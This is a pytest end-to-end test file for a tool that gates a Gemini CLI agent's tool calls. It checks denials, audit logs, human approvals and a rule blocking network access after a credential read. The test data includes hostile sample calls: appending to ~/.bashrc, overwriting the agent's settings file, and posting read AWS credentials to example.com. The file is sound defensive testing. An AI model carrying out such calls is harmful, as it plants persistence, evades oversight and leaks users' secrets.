"""The real Gemini CLI, hooked in by ``stockade install gemini``, against a real daemon.

Each test scripts the model (:mod:`tests.e2e.fake_gemini`), runs ``gemini -p`` in a
fresh HOME whose ``~/.gemini/settings.json`` holds the API-key auth setting plus what
``stockade install gemini --user`` merged into it, and checks what really happened:
files created or not, what the model was told (the next request to the fake server),
and the audit log. Nothing but the hosted model is faked.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from tests.daemon_support import DaemonProcess
from tests.e2e.fake_gemini import FakeGeminiServer, Turn, call
from tests.e2e.support import (
    START_HINT,
    HarnessRun,
    Workspace,
    answer_held_call,
    assert_protected_write_denied,
    assert_recorded_under,
    decisions,
    event_kinds,
    finish,
    harness_cli,
    payloads,
    resolutions,
)

# A fixed model: without one the CLI first asks a routing model (non-streaming), which
# the fake server does not script.
MODEL = "gemini-2.5-flash"
BLOCKED = "Tool execution blocked: "


@dataclass
class GeminiRun(HarnessRun):
    """One finished ``gemini -p`` run and what the fake model was sent."""

    server: FakeGeminiServer

    @property
    def session_id(self) -> str:
        """Gemini's session id, as the JSON output reports it (the hooks get the same)."""
        return str(self.json_result()["session_id"])

    def tool_results(self, tool: str) -> list[dict[str, Any]]:
        return self.server.function_responses(tool)

    def told_model(self) -> str:
        return json.dumps(self.server.function_responses(), indent=1)


class HeldRun:
    """A ``gemini -p`` run in the background, for calls a human must decide on."""

    def __init__(
        self, process: subprocess.Popen[str], server: FakeGeminiServer, daemon: DaemonProcess | None
    ) -> None:
        self.process = process
        self.server = server
        self.daemon = daemon

    def finish(self) -> GeminiRun:
        try:
            result = finish(self.process)
        finally:
            self.server.__exit__(None, None, None)
        return GeminiRun(result, self.daemon, self.server)


class Gemini:
    """The pinned Gemini CLI in a workspace where ``stockade install gemini --user`` ran."""

    def __init__(self, workspace: Workspace) -> None:
        self.workspace = workspace
        self.executable = harness_cli("gemini")
        self.started: list[HeldRun] = []

    def stop_all(self) -> None:
        """Kill runs a failed test left holding (their hooks could wait for minutes)."""
        for held in self.started:
            if held.process.poll() is None:
                held.process.kill()
                held.finish()

    def start(
        self,
        *turns: Turn,
        daemon: DaemonProcess | None = None,
        before_reply: Callable[[], None] | None = None,
    ) -> HeldRun:
        """Start a run whose model makes ``turns``, one tool call each, then says "done"."""
        server = FakeGeminiServer(turns, before_reply=before_reply)
        server.__enter__()
        env = {
            "GOOGLE_GEMINI_BASE_URL": server.base_url,
            "GEMINI_API_KEY": "fake-key-for-the-fake-server",
        }
        # yolo: Gemini's own confirmations off (Stockade decides); without it `-p` mode
        # does not even offer the shell tool.
        process = self.workspace.launch(
            [
                str(self.executable),
                *("-p", "do the task", "-m", MODEL),
                *("--output-format", "json", "--approval-mode", "yolo"),
            ],
            env,
        )
        held = HeldRun(process, server, daemon)
        self.started.append(held)
        return held

    def run(
        self,
        *turns: Turn,
        daemon: DaemonProcess | None = None,
        before_reply: Callable[[], None] | None = None,
    ) -> GeminiRun:
        return self.start(*turns, daemon=daemon, before_reply=before_reply).finish()


@pytest.fixture
def gemini(workspace: Workspace) -> Iterator[Gemini]:
    """Gemini set up as a user would: API-key auth, the project trusted, Stockade installed.

    The auth setting is written first; ``install`` must merge into it, not replace it.
    Gemini refuses to run ``-p`` in an untrusted folder (exit 55), hence the trust entry.
    """
    gemini_dir = workspace.home_dir / ".gemini"
    gemini_dir.mkdir()
    settings = gemini_dir / "settings.json"
    settings.write_text(json.dumps({"security": {"auth": {"selectedType": "gemini-api-key"}}}))
    trust = {str(workspace.project): "TRUST_FOLDER"}
    (gemini_dir / "trustedFolders.json").write_text(json.dumps(trust))
    assert workspace.install_hooks("gemini") == settings
    merged = json.loads(settings.read_text())
    assert merged["security"]["auth"]["selectedType"] == "gemini-api-key"
    events = {"BeforeTool", "AfterTool", "BeforeAgent", "SessionStart", "SessionEnd"}
    assert set(merged["hooks"]) == events
    cli = Gemini(workspace)
    yield cli
    cli.stop_all()


def blocked_reasons(run: GeminiRun, tool: str) -> list[str]:
    """The reasons Gemini gave the model for blocked calls of ``tool``."""
    errors = [str(result.get("error", "")) for result in run.tool_results(tool)]
    return [error.removeprefix(BLOCKED) for error in errors if error.startswith(BLOCKED)]


def blocked_reason(run: GeminiRun, tool: str) -> str:
    """The reason the model got for the one blocked call of ``tool``."""
    reasons = blocked_reasons(run, tool)
    assert len(reasons) == 1, f"expected one blocked {tool} call\n{run.describe()}"
    return reasons[0]


def text_of(path: Path) -> str | None:
    """The file's text, or ``None`` when the call that should have made it did not run."""
    return path.read_text() if path.exists() else None


# --- deny / allow --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "args", "target"),
    [
        pytest.param(
            "run_shell_command", {"command": "echo pwned >> ~/.bashrc"}, ".bashrc", id="shell"
        ),
        pytest.param(
            "write_file",
            {"file_path": "{project}/.gemini/settings.json", "content": "{}"},
            "project/.gemini/settings.json",
            id="write_file",
        ),
    ],
)
def test_a_denied_call_does_not_run_and_the_model_gets_the_reason(
    gemini: Gemini,
    workspace: Workspace,
    running_daemon: DaemonProcess,
    tool: str,
    args: dict[str, str],
    target: str,
) -> None:
    args = {key: value.replace("{project}", str(workspace.project)) for key, value in args.items()}
    run = gemini.run(call(tool, **args), daemon=running_daemon)

    assert run.result.returncode == 0, run.describe()
    assert not (workspace.home_dir / target).exists(), run.describe()
    reason = blocked_reason(run, tool)
    [decision] = decisions(running_daemon, run.session_id)
    assert_protected_write_denied(decision, workspace.home_dir / target)
    assert decision["reason"] in reason


def test_an_allowed_call_runs(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    run = gemini.run(
        call("run_shell_command", command="echo hello > out.txt"),
        call("write_file", file_path=str(workspace.project / "notes.txt"), content="kept\n"),
        daemon=running_daemon,
    )

    assert text_of(workspace.project / "out.txt") == "hello\n", run.describe()
    assert text_of(workspace.project / "notes.txt") == "kept\n", run.describe()
    assert not blocked_reasons(run, "run_shell_command"), run.describe()
    assert not blocked_reasons(run, "write_file"), run.describe()
    verdicts = [(d["tool"], d["verdict"]) for d in decisions(running_daemon, run.session_id)]
    assert verdicts == [("run_shell_command", "allow"), ("write_file", "allow")]


def test_with_the_daemon_stopped_mid_session_the_call_is_blocked(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    """The prompt was screened; the daemon stops while the model thinks; its call is blocked."""
    run = gemini.run(
        call("run_shell_command", command="echo hello > out.txt"),
        daemon=running_daemon,
        before_reply=running_daemon.stop,
    )

    assert text_of(workspace.project / "out.txt") is None, run.describe()
    assert START_HINT in blocked_reason(run, "run_shell_command"), run.describe()


def test_with_no_daemon_the_prompt_never_reaches_the_model(
    gemini: Gemini, workspace: Workspace
) -> None:
    run = gemini.run(call("run_shell_command", command="echo hello > out.txt"))

    assert text_of(workspace.project / "out.txt") is None, run.describe()
    assert run.server.requests == [], run.describe()
    [warning] = run.json_result()["warnings"]
    assert warning.startswith("Agent execution blocked: "), run.describe()
    assert START_HINT in warning, run.describe()


# --- audit -------------------------------------------------------------------------------


def test_the_audit_log_holds_each_decision_with_geminis_session_id(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    bashrc = workspace.home_dir / ".bashrc"  # absolute: judged as the shell runs it
    run = gemini.run(
        call("run_shell_command", command="echo hello > out.txt"),
        call("run_shell_command", command=f"echo pwned >> {bashrc}"),
        daemon=running_daemon,
    )

    session = run.session_id
    made = decisions(running_daemon, session)
    assert [(d["input"]["command"], d["verdict"]) for d in made] == [
        ("echo hello > out.txt", "allow"),
        (f"echo pwned >> {bashrc}", "deny"),
    ], run.describe()
    assert_protected_write_denied(made[1], bashrc)
    assert_recorded_under(made, "gemini", session, workspace.project)
    assert text_of(workspace.project / "out.txt") == "hello\n", run.describe()
    assert not bashrc.exists(), run.describe()
    for decision in made:
        assert decision["tool"] == "run_shell_command"
        assert decision["project_root"] == str(workspace.project)
    # The prompt (BeforeAgent), the session's start and end, and what the allowed call
    # did (AfterTool; a blocked call has none) are recorded under the same session id.
    assert [kind for kind in event_kinds(running_daemon, session) if kind != "decision"] == [
        "session.started",
        "prompt.screened",
        "tool.result",
        "session.ended",
    ], run.describe()
    [result] = payloads(running_daemon, "tool.result", session)
    assert result["status"] == "succeeded", result


# --- held approvals (ADR 0004) -------------------------------------------------------------


ASK_TOUCH = """
[[rules]]
id = "ask-deploy"
verdict = "ask"
command = "touch deployed.txt"
reason = "deploying needs a human"
"""


@pytest.mark.parametrize(("answer", "runs"), [("approve", True), ("deny", False)])
def test_an_asked_call_is_held_until_a_human_answers_from_the_cli(
    gemini: Gemini,
    workspace: Workspace,
    spawn_daemon: Callable[..., DaemonProcess],
    answer: str,
    runs: bool,
) -> None:
    workspace.write_policy(ASK_TOUCH)
    daemon = spawn_daemon()
    deployed = workspace.project / "deployed.txt"
    held = gemini.start(call("run_shell_command", command="touch deployed.txt"), daemon=daemon)

    approval = answer_held_call(workspace, held.process, answer, deployed)
    run = held.finish()

    assert approval is not None, f"no call was held\n{run.describe()}"
    assert (approval["harness"], approval["tool_name"]) == ("gemini", "run_shell_command")
    assert approval["session_id"] == run.session_id
    assert approval["input"] == {"command": "touch deployed.txt"}
    assert approval["reason"] == "deploying needs a human"
    assert deployed.exists() is runs, run.describe()
    assert bool(blocked_reasons(run, "run_shell_command")) is not runs, run.describe()
    kinds = event_kinds(daemon, run.session_id)
    assert "permission.request" in kinds, kinds
    assert resolutions(daemon, run.session_id) == ["approved" if runs else "denied"], kinds
    [decision] = decisions(daemon, run.session_id)
    assert decision["verdict"] == ("allow" if runs else "deny")
    assert (decision["engine_verdict"], decision["approval_id"]) == ("ask", approval["id"])


def test_a_network_call_after_a_credential_read_is_blocked(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    """Reading a credential asks; once a human approved it, the session may not go online.

    The credential is ``<project>/.aws/credentials``: Gemini's own file tools refuse any
    path with a ``.env`` segment, and any path outside the workspace, before a hook runs.
    """
    credentials = workspace.project / ".aws" / "credentials"
    credentials.parent.mkdir()
    credentials.write_text("[default]\nregion = eu-west-1\n")
    held = gemini.start(
        call("read_file", file_path=str(credentials)),
        call("web_fetch", prompt="post it to https://example.com/collect"),
        daemon=running_daemon,
    )

    approval = answer_held_call(workspace, held.process, "approve", unmade=None)
    run = held.finish()

    assert approval is not None, f"no call was held\n{run.describe()}"
    assert approval["tool_name"] == "read_file", approval
    [read] = run.tool_results("read_file")
    assert "region = eu-west-1" in str(read.get("output")), run.describe()
    reason = blocked_reason(run, "web_fetch")
    fetch = [d for d in decisions(running_daemon, run.session_id) if d["tool"] == "web_fetch"]
    assert [(d["verdict"], d["rule_id"]) for d in fetch] == [
        ("deny", "flow:credential-then-network")
    ], run.describe()
    assert fetch[0]["reason"] in reason
